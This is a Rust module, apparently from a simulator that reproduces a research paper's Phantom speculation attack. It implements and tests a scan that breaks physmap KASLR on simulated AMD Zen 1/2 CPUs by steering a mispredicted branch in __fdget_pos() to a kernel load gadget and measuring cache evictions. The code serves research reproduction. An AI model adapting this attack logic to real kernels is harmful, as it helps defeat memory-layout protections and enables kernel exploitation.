//! §7.2 — breaking physmap KASLR with P2 on Zen 1/2 (**Table 4**).
//!
//! Physmap is the kernel's direct map of physical memory: present but
//! **non-executable**, so P1's instruction fetch cannot see it. P2 can:
//! the attacker confuses the direct `call` in `__fdget_pos()` (reached
//! via `readv()`, with `R12` attacker-controlled through the second
//! argument) with an injected `jmp*` prediction to the Listing 3 gadget
//! `mov r12, [r12+0xbe0]`. For the correct physmap candidate the
//! transient load hits mapped memory and fills a cache set.

use phantom_kernel::image::{LISTING2_CALL_OFFSET, LISTING3_OFFSET};
use phantom_kernel::layout::{KaslrLayout, PHYSMAP_SLOTS};
use phantom_kernel::System;
use phantom_mem::VirtAddr;
use phantom_sidechannel::{bounded_score, NoiseModel};

use crate::attacks::{scan_slots, AttackError, SlotScanResult};
use crate::primitives::{p2_probe_in_set, PrimitiveConfig};

/// Configuration for the physmap derandomization.
#[derive(Debug, Clone)]
pub struct PhysmapConfig {
    /// Candidate physmap slots to scan (default: all 25 600).
    pub slots: std::ops::Range<u64>,
    /// Sets scored per candidate.
    pub sets_per_candidate: usize,
    /// Measurement repetitions per set.
    pub reps: usize,
    /// Noise seed.
    pub seed: u64,
}

impl Default for PhysmapConfig {
    fn default() -> PhysmapConfig {
        PhysmapConfig {
            slots: 0..PHYSMAP_SLOTS,
            sets_per_candidate: 4,
            reps: 6,
            seed: 0,
        }
    }
}

/// Run the attack. `image_base` is the kernel image base recovered by
/// the §7.1 stage (the attack needs the Listing 2/3 addresses).
///
/// # Errors
///
/// Returns [`AttackError`] on primitive failure.
pub fn break_physmap(
    sys: &mut System,
    image_base: VirtAddr,
    config: &PhysmapConfig,
) -> Result<SlotScanResult, AttackError> {
    let attacker = VirtAddr::new(0x5000_0000);
    let cfg = PrimitiveConfig::for_system(sys, attacker);
    let mut noise = NoiseModel::realistic(config.seed);
    let listing2_call = image_base + LISTING2_CALL_OFFSET;
    let listing3 = image_base + LISTING3_OFFSET;
    let sets = config.sets_per_candidate;
    let actual_slot = sys.layout().physmap_slot;
    scan_slots(sys, config.slots.clone(), sets, actual_slot, |sys, slot| {
        let candidate = KaslrLayout::candidate_physmap_base(slot);
        let mut signal = Vec::new();
        let mut baseline = Vec::new();
        for i in 0..sets {
            let set = (7 + i * 23) % 64;
            // Physical offset 1 MiB (+ set selector): RAM that certainly
            // exists; its direct-map address is candidate + offset.
            let t_s = candidate + 0x10_0000 + (set as u64) * 64;
            let b_s = candidate + 0x10_0000 + (((set + 32) % 64) as u64) * 64;
            let (mut t_ev, mut b_ev) = (0u64, 0u64);
            for _ in 0..config.reps.max(1) {
                t_ev += p2_probe_in_set(sys, &cfg, listing2_call, listing3, t_s, set, &mut noise)?
                    .evictions as u64;
                b_ev += p2_probe_in_set(sys, &cfg, listing2_call, listing3, b_s, set, &mut noise)?
                    .evictions as u64;
            }
            signal.push(t_ev);
            baseline.push(b_ev);
        }
        Ok(bounded_score(&signal, &baseline))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use phantom_pipeline::UarchProfile;

    fn window_around(actual: u64, width: u64) -> std::ops::Range<u64> {
        let lo = actual.saturating_sub(width / 2);
        lo..(lo + width).min(PHYSMAP_SLOTS)
    }

    #[test]
    fn finds_physmap_on_zen2() {
        let mut sys = System::new(UarchProfile::zen2(), 1 << 30, 31).unwrap();
        let actual = sys.layout().physmap_slot;
        let image_base = sys.image().base; // §7.1 output
        let config = PhysmapConfig {
            slots: window_around(actual, 24),
            ..Default::default()
        };
        let r = break_physmap(&mut sys, image_base, &config).unwrap();
        assert!(
            r.correct,
            "guessed {} actual {}",
            r.guessed_slot, r.actual_slot
        );
        assert!(r.confidence > 0.0, "{r:?}");
    }

    #[test]
    fn finds_physmap_on_zen1() {
        let mut sys = System::new(UarchProfile::zen1(), 1 << 30, 32).unwrap();
        let actual = sys.layout().physmap_slot;
        let image_base = sys.image().base;
        let config = PhysmapConfig {
            slots: window_around(actual, 16),
            ..Default::default()
        };
        let r = break_physmap(&mut sys, image_base, &config).unwrap();
        assert!(r.correct);
    }

    #[test]
    fn fails_on_zen3_where_phantom_does_not_execute() {
        // The paper's Table 4 covers Zen 1/2 only: without phantom
        // execution the transient load never dispatches and every
        // candidate scores like noise.
        let mut sys = System::new(UarchProfile::zen3(), 1 << 30, 33).unwrap();
        let actual = sys.layout().physmap_slot;
        let image_base = sys.image().base;
        let config = PhysmapConfig {
            slots: window_around(actual, 16),
            ..Default::default()
        };
        let r = break_physmap(&mut sys, image_base, &config).unwrap();
        assert!(
            r.best_score <= 9,
            "no real signal on Zen 3: {}",
            r.best_score
        );
    }
}
